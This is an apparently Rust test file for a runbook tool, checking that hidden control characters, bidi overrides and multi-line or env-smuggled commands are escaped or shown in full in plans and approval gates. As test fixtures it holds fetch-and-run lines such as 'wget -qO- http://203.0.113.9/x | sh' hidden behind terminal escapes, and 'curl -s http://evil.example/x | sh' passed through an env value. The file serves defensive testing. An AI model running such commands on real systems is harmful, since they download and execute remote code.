//! What a reviewer or an approver sees is what runs: control characters in a value (from a
//! runbook, environments.yaml or `--input`) are refused by `check` or shown visibly by every
//! human-facing output (plan, Markdown plan, gate, list, show, docs); JSON keeps them exact.

mod common;

use common::Test;
use common::pty::Pty;

const ENTER: &str = "\r";

/// The hidden command of the issue: a terminal shows only what follows `\r\e[2K`.
const HIDDEN: &str = "wget -qO- http://203.0.113.9/x | sh\r\u{1b}[2Ksystemctl restart musehub";
const SHOWN: &str = r"wget -qO- http://203.0.113.9/x | sh\r\e[2Ksystemctl restart musehub";

/// A runbook whose command is built from an input, so a hostile value can reach the plan
/// and the gate without being in the file.
const FROM_INPUT: &str = r#"
    version: 1
    name: restart
    summary: Restart the app
    inputs:
      what:
        description: What to restart
    steps:
      - id: restart
        title: "Restart {{ inputs.what }}"
        confirm: "Restart with `{{ inputs.what }}` now?"
        ssh.exec:
          host: app
          command: "{{ inputs.what }}"
"#;

fn no_raw_controls(text: &str) {
    for c in ['\u{1b}', '\r', '\u{7}', '\u{202e}'] {
        assert!(!text.contains(c), "raw {c:?} in:\n{text}");
    }
}

#[test]
fn check_refuses_a_command_with_a_hidden_part() {
    let t = Test::new().with_repo_environments().runbook(
        "restart",
        r#"
        version: 1
        name: restart
        summary: Restart the app
        steps:
          - id: restart
            ssh.exec:
              host: app
              command: "wget -qO- http://203.0.113.9/x | sh\r\e[2Ksystemctl restart musehub"
        "#,
    );
    let t = t.env("NO_COLOR", "1");
    let run = t.again(&["check"]);
    run.assert_code(2);
    assert!(
        run.stderr.contains("runbook::control-character"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("restart.yaml:8:"), "{}", run.stderr);
    assert!(
        run.stderr.contains("steps[0].ssh.exec.command"),
        "{}",
        run.stderr
    );
    // Not even the diagnostic's snippet sends them to the terminal.
    no_raw_controls(&run.stderr);
    // The runbook is invalid: it cannot be planned or run.
    let plan = t.again(&["plan", "restart", "--env", "staging"]);
    plan.assert_code(2);
    no_raw_controls(&plan.stdout);
    no_raw_controls(&plan.stderr);
}

#[test]
fn raw_control_bytes_and_bidi_overrides_in_a_file_are_refused_and_never_listed_raw() {
    let t = Test::new().with_repo_environments().runbook(
        "tricky",
        "version: 1\nname: tricky\nsummary: \"ok \u{1b}[8mhidden\u{7}\"\nsteps:\n  - id: a\n    title: \"log.\u{202e}txt\"\n    generate: { format: hex }\n",
    );
    let t = t.env("NO_COLOR", "1");
    let check = t.again(&["check"]);
    check.assert_code(2);
    assert!(check.stderr.contains("tricky.yaml:3:"), "{}", check.stderr);
    assert!(check.stderr.contains("tricky.yaml:6:"), "{}", check.stderr);
    assert!(check.stderr.contains("U+202E"), "{}", check.stderr);
    no_raw_controls(&check.stderr);
    for args in [&["list"][..], &["show", "tricky"], &["docs", "tricky"]] {
        let run = t.again(args);
        no_raw_controls(&run.stdout);
        no_raw_controls(&run.stderr);
    }
}

#[test]
fn joiners_are_a_warning_and_shown_visibly_everywhere() {
    let t = Test::new().with_repo_environments().runbook(
        "joined",
        "version: 1\nname: joined\nsummary: \"Rotate\u{200d}the key\"\nsteps:\n  - id: a\n    title: \"Make\u{200b}\u{200d}it\"\n    generate: { format: hex }\n",
    );
    let t = t.env("NO_COLOR", "1");
    let check = t.again(&["check"]);
    // U+200B (zero-width space) has no legitimate use: an error, though U+200D is only a warning.
    check.assert_code(2);
    let t = Test::new().with_repo_environments().runbook(
        "joined",
        "version: 1\nname: joined\nsummary: \"Rotate\u{200d}the key\"\nsteps:\n  - id: a\n    title: \"Make\u{200d}it\"\n    generate: { format: hex }\n",
    );
    let t = t.env("NO_COLOR", "1");
    let check = t.again(&["check"]);
    check.assert_code(0);
    assert!(
        check.stderr.contains("runbook::control-character") && check.stderr.contains("U+200D"),
        "{}",
        check.stderr
    );
    for args in [
        &["list"][..],
        &["show", "joined"],
        &["docs", "joined"],
        &["plan", "joined", "--env", "staging"],
        &["plan", "joined", "--env", "staging", "--format", "md"],
    ] {
        let run = t.again(args);
        run.assert_code(0);
        assert!(
            !run.stdout.contains('\u{200d}') && run.stdout.contains(r"Rotate\u{200d}the key"),
            "{args:?}:\n{}",
            run.stdout
        );
    }
}

#[test]
fn the_plan_shows_a_hidden_part_of_a_value_given_on_the_command_line() {
    let t = Test::new()
        .with_repo_environments()
        .runbook("restart", FROM_INPUT);
    let input = format!("what={HIDDEN}");
    let text = t.again(&["plan", "restart", "--env", "staging", "--input", &input]);
    text.assert_code(0);
    no_raw_controls(&text.stdout);
    assert!(
        text.stdout.contains(&format!("does: on app: {SHOWN}")),
        "{}",
        text.stdout
    );
    assert!(
        text.stdout
            .contains(&format!("GATE: Restart with `{SHOWN}` now?")),
        "{}",
        text.stdout
    );

    let md = t.again(&[
        "plan", "restart", "--env", "staging", "--input", &input, "--format", "md",
    ]);
    md.assert_code(0);
    no_raw_controls(&md.stdout);
    // In a code span: `|` escaped for the table, nothing else interpreted.
    assert!(
        md.stdout
            .contains(&format!("`on app: {}`", SHOWN.replace('|', "\\|"))),
        "{}",
        md.stdout
    );

    // Programs get the exact value.
    let json = t.again(&[
        "plan", "restart", "--env", "staging", "--input", &input, "--output", "json",
    ]);
    let plan: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(
        plan["steps"][0]["action"].as_str(),
        Some(format!("on app: {HIDDEN}").as_str())
    );
}

#[test]
fn a_markdown_plan_cannot_be_reshaped_by_a_command() {
    let t = Test::new().with_repo_environments().runbook(
        "shape",
        r#"
        version: 1
        name: shape
        summary: Rotate
        steps:
          - id: clean
            ssh.exec:
              host: app
              command: "rm -f /tmp/*.log /var/*cache* | tee `x` <b>@team"
        "#,
    );
    let md = t
        .args(&["plan", "shape", "--env", "staging", "--format", "md"])
        .run();
    md.assert_code(0);
    assert!(
        md.stdout
            .contains("| ``on app: rm -f /tmp/*.log /var/*cache* \\| tee `x` <b>@team`` |"),
        "{}",
        md.stdout
    );
}

#[test]
fn docs_fence_a_command_that_holds_a_fence() {
    let t = Test::new().with_repo_environments().runbook(
        "fence",
        r#"
        version: 1
        name: fence
        summary: Rotate
        steps:
          - id: notes
            ssh.exec:
              host: app
              command: |
                cat <<'X'
                ```
                X
                echo done
        "#,
    );
    let docs = t.args(&["docs", "fence", "--env", "staging"]).run();
    docs.assert_code(0);
    assert!(docs.stdout.contains("````sh\nssh"), "{}", docs.stdout);
    assert!(
        docs.stdout.contains("echo done'\n````\n"),
        "{}",
        docs.stdout
    );
}

/// One host that refuses connections at once: a gate opens SSH connections while it waits. The
/// runs start with --no-preflight, whose SSH check would stop them before the gate they look at.
const LAB: &str = r#"
    version: 1
    environments:
      lab:
        hosts:
          app: { address: 127.0.0.1, port: 9, user: nobody }
"#;

#[test]
fn the_gate_shows_a_hidden_part_of_the_command() {
    let input = format!("what={HIDDEN}");
    let t = Test::new()
        .environments(LAB)
        .runbook("restart", FROM_INPUT)
        .args(&[
            "run",
            "restart",
            "--env",
            "lab",
            "--no-preflight",
            "--input",
            &input,
        ]);
    let mut p = Pty::spawn(&t);
    p.expect("now?");
    p.send("n");
    p.send(ENTER);
    let code = p.finish();
    assert_eq!(code, 3, "{}", p.output());
    let out = p.output();
    let gate = &out[out.rfind("step `restart`:").expect("the gate's text")..];
    assert!(gate.contains(SHOWN), "{out}");
    assert!(!out.contains("sh\r\u{1b}[2Ksystemctl"), "{out}");
}

/// A three-line command whose dangerous part is not on its first line.
const THREE_LINES: &str = r#"
    version: 1
    name: deploy
    summary: Deploy
    steps:
      - id: deploy
        confirm: Deploy now?
        ssh.exec:
          host: app
          command: |
            cd /opt/musehub
            curl -s http://203.0.113.9/x | sh
            systemctl restart musehub
"#;

#[test]
fn the_plan_shows_every_line_of_a_command() {
    let t = Test::new()
        .with_repo_environments()
        .runbook("deploy", THREE_LINES);
    let text = t.again(&["plan", "deploy", "--env", "staging"]);
    text.assert_code(0);
    assert!(
        text.stdout.contains(
            "      does: on app: cd /opt/musehub\n            curl -s http://203.0.113.9/x | sh\n            systemctl restart musehub\n      effect:"
        ),
        "{}",
        text.stdout
    );
    let md = t.again(&["plan", "deploy", "--env", "staging", "--format", "md"]);
    assert!(
        md.stdout.contains(
            "| `on app: cd /opt/musehub`<br>`curl -s http://203.0.113.9/x \\| sh`<br>`systemctl restart musehub` |"
        ),
        "{}",
        md.stdout
    );
}

#[test]
fn the_gate_shows_every_line_of_a_command() {
    let t = Test::new()
        .environments(LAB)
        .runbook("deploy", THREE_LINES)
        .args(&["run", "deploy", "--env", "lab", "--no-preflight"]);
    let mut p = Pty::spawn(&t);
    p.expect("Deploy now?");
    p.send("n");
    p.send(ENTER);
    assert_eq!(p.finish(), 3, "{}", p.output());
    let out = p.output();
    let gate = &out[out.rfind("step `deploy`:").expect("the gate's text")..];
    assert!(gate.contains("curl -s http://203.0.113.9/x | sh"), "{out}");
    assert!(gate.contains("systemctl restart musehub"), "{out}");
}

#[test]
fn a_long_command_at_the_gate_says_where_to_read_it_whole() {
    let lines: String = (1..=40)
        .map(|i| format!("        echo line {i}\n"))
        .collect();
    let yaml = format!(
        "version: 1\nname: long\nsummary: Long\nsteps:\n  - id: long\n    confirm: Run the long one?\n    ssh.exec:\n      host: app\n      command: |\n{lines}"
    );
    let t = Test::new().environments(LAB).runbook("long", &yaml).args(&[
        "run",
        "long",
        "--env",
        "lab",
        "--no-preflight",
    ]);
    let mut p = Pty::spawn(&t);
    p.expect("Run the long one?");
    p.send("n");
    p.send(ENTER);
    assert_eq!(p.finish(), 3, "{}", p.output());
    let out = p.output();
    // A run on a terminal shows the plan first; the gate comes after it.
    let gate = &out[out.rfind("step `long`:").expect("the gate's text")..];
    assert!(gate.contains("echo line 14"), "{out}");
    assert!(!gate.contains("echo line 15"), "{out}");
    assert!(
        gate.contains("… 26 more lines; see `runbook plan long --env lab`"),
        "{out}"
    );
    // The plan has all of them.
    let plan = t.again(&["plan", "long", "--env", "lab"]);
    assert!(plan.stdout.contains("echo line 40"), "{}", plan.stdout);
}

/// What an `ssh.exec` command is given runs as much as the command: the plan shows its `env:`
/// values and its `stdin:` script, whole.
#[test]
fn the_plan_shows_what_a_command_is_given() {
    let r = common::Test::new()
        .with_repo_environments()
        .runbook(
            "x",
            r#"
            version: 1
            name: x
            summary: given
            steps:
              - id: c
                title: Print the uptime
                confirm: Print the uptime?
                ssh.exec:
                  host: app
                  command: bash -s; eval "$OPTS"
                  env: { OPTS: "curl -s http://evil.example/x | sh" }
                  stdin: "echo first\necho STDIN-SCRIPT-RAN\n"
            "#,
        )
        .args(&["plan", "x", "--env", "sandbox"])
        .run();
    r.assert_code(0);
    for shown in [
        "with env OPTS=curl -s http://evil.example/x | sh",
        "with stdin:",
        "echo STDIN-SCRIPT-RAN",
    ] {
        assert!(r.stdout.contains(shown), "{shown}:\n{}", r.stdout);
    }
}

/// An HTTP request's headers and body go where the request goes as much as its URL (a `Host:`
/// header sends it elsewhere): the plan and the Markdown plan show every one, secrets masked.
#[test]
fn an_http_request_shows_its_headers_and_body_in_the_plan() {
    let planted = "tok-PLANTED-h3aders-77";
    let t = Test::new()
        .runbook(
            "hook",
            r#"
            version: 1
            name: hook
            summary: Tell a webhook
            inputs:
              token: { description: An API token, secret: true }
            steps:
              - id: notify
                http.request:
                  method: POST
                  url: https://hooks.example/rotated
                  headers: { Host: other.example, Authorization: "Bearer {{ inputs.token }}" }
                  json: { done: true, by: "{{ inputs.token }}" }
            "#,
        )
        .env("RUNBOOK_INPUT_TOKEN", planted);
    let text = t.then(&["plan", "hook"]).run();
    text.assert_code(0);
    for want in [
        "with header Host: other.example",
        "with header Authorization: Bearer ••••••",
        r#"with JSON body {"done":true,"by":"••••••"}"#,
    ] {
        assert!(text.stdout.contains(want), "{want}\n---\n{}", text.stdout);
    }
    let md = t.then(&["plan", "hook", "--format", "md"]).run();
    md.assert_code(0);
    assert!(md.stdout.contains("Host: other.example"), "{}", md.stdout);
    for out in [&text, &md] {
        assert!(!String::from_utf8_lossy(&out.all_bytes()).contains(planted));
    }
}

/// A runbook that runs another does not claim "0 gates" when the one it runs has some: the
/// count says theirs are asked too.
#[test]
fn a_plan_counts_the_gates_of_the_runbooks_it_runs_as_theirs() {
    let t = Test::new()
        .with_repo_environments()
        .runbook(
            "outer",
            r#"
            version: 1
            name: outer
            summary: Runs another
            steps:
              - id: inner
                runbook.run: { name: inner }
            "#,
        )
        .runbook(
            "inner",
            r#"
            version: 1
            name: inner
            summary: Asks first
            steps:
              - id: change
                confirm: Change it?
                ssh.exec: { host: app, command: "true" }
            "#,
        );
    for args in [
        vec!["plan", "outer", "--env", "sandbox"],
        vec!["plan", "outer", "--env", "sandbox", "--format", "md"],
    ] {
        let r = t.again(&args);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(
            r.stdout
                .contains("0 gates here and those of the runbooks it runs; nothing has run."),
            "{}",
            r.stdout
        );
    }
}
